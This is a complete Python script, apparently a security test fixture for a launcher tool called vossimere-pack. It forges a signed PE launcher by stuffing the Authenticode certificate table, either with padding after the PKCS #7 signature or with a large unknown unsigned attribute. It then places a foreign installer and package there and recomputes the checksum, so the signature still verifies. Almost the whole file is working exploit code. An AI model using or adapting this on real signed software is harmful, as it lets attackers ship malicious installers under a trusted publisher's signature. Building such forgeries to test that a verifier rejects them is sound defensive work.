#!/usr/bin/env python3
"""Builds the two certificate-table forgeries of a signed launcher file, as an attacker would.

The Authenticode hash leaves out the certificate table, so bytes added inside it keep the
signature valid. Both forms put more than 128 KiB into the table, so the real trailer leaves the
tail window, and a foreign installer, package and trailer near the end, where the launcher finds
them first:

  padding             after the PKCS #7 signature, with the entry's length and the directory's
                      size grown to match;
  unsigned-attribute  inside an unsigned attribute of the SignerInfo: every length stays exact
                      and no padding is left.

The foreign payload is laid out by vossimere-pack build itself, with the signed file's first P
bytes as its stub (P: where the payload is to begin), so nothing here restates the trailer format.
The image checksum is set to the forged file's own, as an attacker would.

Usage: forge_certificate_table.py FORM SIGNED INSTALLER PACKAGE OUT PACK_TOOL...
"""
import os
import struct
import subprocess
import sys

GAP = 131072 + 4096  # from the forged bytes' start to the foreign payload: past the real window
SLACK = 2048  # room for the foreign names block and the alignments
# An attribute type no verifier knows: its value is carried along unread.
FOREIGN_ATTRIBUTE = bytes([0x06, 0x0A, 0x2B, 0x06, 0x01, 0x04, 0x01, 0x82, 0xCF, 0x29, 0x7F, 0x01])


def der_length(length):
    if length < 0x80:
        return bytes([length])
    encoded = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(encoded)]) + encoded


def tlv(tag, content):
    return bytes([tag]) + der_length(len(content)) + content


def element_at(der, at):
    """The whole DER element (tag, length, content) at `at`, and where its content starts."""
    first = der[at + 1]
    start, length = at + 2, first
    if first & 0x80:
        count = first & 0x7F
        start, length = at + 2 + count, int.from_bytes(der[at + 2:at + 2 + count], "big")
    return bytes(der[at:start + length]), start - at


def inner(element):
    """The (tag, element) pairs of a constructed element's content."""
    out = []
    _, at = element_at(element, 0)
    while at < len(element):
        child, _ = element_at(element, at)
        out.append((child[0], child))
        at += len(child)
    return out


def with_unsigned_attribute(signature, blob_size):
    """The ContentInfo with a foreign unsigned attribute of blob_size zero bytes added to its
    (last) SignerInfo; the blob is then the last thing in the encoding."""
    oid, wrapped = inner(signature)
    signed_data = inner(wrapped[1])[0][1]
    parts = inner(signed_data)
    signer_infos = parts[-1][1]
    infos = inner(signer_infos)
    fields = inner(infos[-1][1])
    attribute = tlv(0x30, FOREIGN_ATTRIBUTE + tlv(0x31, tlv(0x04, bytes(blob_size))))
    if fields[-1][0] == 0xA1:  # unsigned attributes already there
        fields[-1] = (0xA1, tlv(0xA1, b"".join(e for _, e in inner(fields[-1][1])) + attribute))
    else:
        fields.append((0xA1, tlv(0xA1, attribute)))
    infos[-1] = (0x30, tlv(0x30, b"".join(e for _, e in fields)))
    parts[-1] = (0x31, tlv(0x31, b"".join(e for _, e in infos)))
    signed_data = tlv(0x30, b"".join(e for _, e in parts))
    return tlv(0x30, oid[1] + tlv(0xA0, signed_data))


def set_checksum(image, field):
    """The standard image checksum: 16-bit words summed with carries folded, the field as zero,
    plus the length."""
    struct.pack_into("<I", image, field, 0)
    padded = bytes(image) + bytes(len(image) % 2)
    total = sum(struct.unpack("<%dH" % (len(padded) // 2), padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    struct.pack_into("<I", image, field, total + len(image))


def main():
    form, signed_path, installer, package, out_path = sys.argv[1:6]
    tool = sys.argv[6:]
    data = bytearray(open(signed_path, "rb").read())
    pe = struct.unpack_from("<I", data, 60)[0]
    entry = pe + 24 + 112 + 8 * 4  # the certificate directory entry of a PE32+ image
    table, _ = struct.unpack_from("<II", data, entry)
    signature, _ = element_at(data, table + 8)

    size = GAP + os.path.getsize(installer) + os.path.getsize(package) + SLACK
    if form == "padding":
        body = signature + bytes(size)
    elif form == "unsigned-attribute":
        # A blob size that leaves the signature a multiple of 8 long: no alignment at all.
        while len(with_unsigned_attribute(signature, size)) % 8:
            size += 1
        body = with_unsigned_attribute(signature, size)
    else:
        sys.exit("unknown form " + form)
    blob = table + 8 + len(body) - size  # where the added zero bytes start in the file
    body += bytes(-len(body) % 8)
    length = 8 + len(body)
    header = struct.pack("<IHH", length, 0x0200, 0x0002)
    forged = data[:table] + header + body
    struct.pack_into("<II", forged, entry, table, 8 + len(body))

    # The foreign launcher: the forged file's first bytes as the stub, unsigned, then the payload.
    payload_at = (blob + GAP + 15) // 16 * 16
    stub = bytearray(forged[:payload_at])
    struct.pack_into("<II", stub, entry, 0, 0)
    open("forge-stub.exe", "wb").write(stub)
    subprocess.run(tool + ["build", "--stub", "forge-stub.exe", "--installer", installer,
                           "--package", package, "--title", "Forged", "--installer-name",
                           "setup.exe", "--package-name", "Corvalinth.msi", "-o", "forge-whole.exe"],
                   check=True, stderr=subprocess.DEVNULL)
    foreign = open("forge-whole.exe", "rb").read()[payload_at:]
    assert payload_at + len(foreign) <= blob + size, "the foreign payload does not fit"
    forged[payload_at:payload_at + len(foreign)] = foreign
    os.remove("forge-stub.exe")
    os.remove("forge-whole.exe")
    set_checksum(forged, pe + 24 + 64)
    open(out_path, "wb").write(forged)


if __name__ == "__main__":
    main()
